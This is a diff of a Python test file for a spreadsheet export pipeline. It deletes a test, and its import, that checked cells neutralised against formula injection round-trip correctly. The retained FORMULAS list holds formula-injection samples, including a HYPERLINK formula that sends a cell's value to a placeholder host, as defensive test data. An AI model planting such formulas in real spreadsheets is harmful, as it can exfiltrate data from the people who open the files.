@@ -14,7 +14,6 @@ from ruamel.yaml import YAML
 
 from pipeline.contracts import read_prepared
 from pipeline.report.results import read_csv
-from pipeline.spreadsheet import as_it_was, inert
 
 
 @pytest.fixture(scope="module")
@@ -37,12 +36,6 @@ def test_malformed(case: Case, template: Path, tmp_path: Path) -> None:
 
 
 FORMULAS = ['=HYPERLINK("http://example.org?"&A1,"Win")', "+1+1", "-2+3", "@SUM(1)", "'=1", "\t=1", "＝1", "it's =1"]
-
-
-@pytest.mark.parametrize("text", [*FORMULAS, "", "'", "''=1", "\n=1"])
-def test_a_cell_that_was_made_inert_is_read_as_it_was(text: str) -> None:
-    assert as_it_was(inert(text)) == text
-    assert not re.match(r"[=+\-@＝\t\n]", inert(text))
 
 
 def test_a_formula_is_a_tweet_and_no_formula(template: Path, tmp_path: Path) -> None:
